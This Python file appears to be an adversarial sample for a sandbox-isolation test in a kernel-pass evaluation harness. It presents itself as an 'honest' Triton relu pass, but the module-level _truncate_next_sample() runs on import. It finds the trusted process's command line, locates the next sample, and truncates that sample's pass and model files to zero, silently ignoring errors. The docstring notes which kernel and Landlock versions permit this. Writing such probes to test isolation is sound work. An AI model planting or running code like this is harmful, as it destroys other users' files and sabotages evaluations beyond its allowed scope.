"""Honest relu in Triton; its set-up truncates the next sample's pass and model files, found on the
trusted process's command line. ``truncate(2)`` by path needs only the file's write permission: a
Landlock ruleset handles it from ABI 3 on (kernel 6.2); on older kernels (Ubuntu 22.04's 5.15,
RHEL 9's 5.14: ABI 1-2) a plain child truncates any file of its user."""

import os

import torch
from pass_dir.host import cmdline, option_values, resolved, trusted_process
from pass_dir.kernels import launch_relu


def _truncate_next_sample():
    trusted = trusted_process(os.getpid())
    if trusted is None:
        return
    samples = [resolved(trusted, s) for s in option_values(cmdline(trusted), "--passnet-samples")]
    mine = [i for i, s in enumerate(samples) if (s / "pass_dir" / "truncate_outside.py").is_file()]
    if not mine or mine[0] + 1 >= len(samples):
        return
    victim = samples[mine[0] + 1]
    for path in [*victim.glob("pass_dir/*.py"), *victim.glob("graphs/*/*/model.py")]:
        try:
            os.truncate(path, 0)
        except OSError:
            pass


_truncate_next_sample()


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def relu(x):
    return launch_relu(x, torch.empty_like(x))


def replacement_func():
    return relu
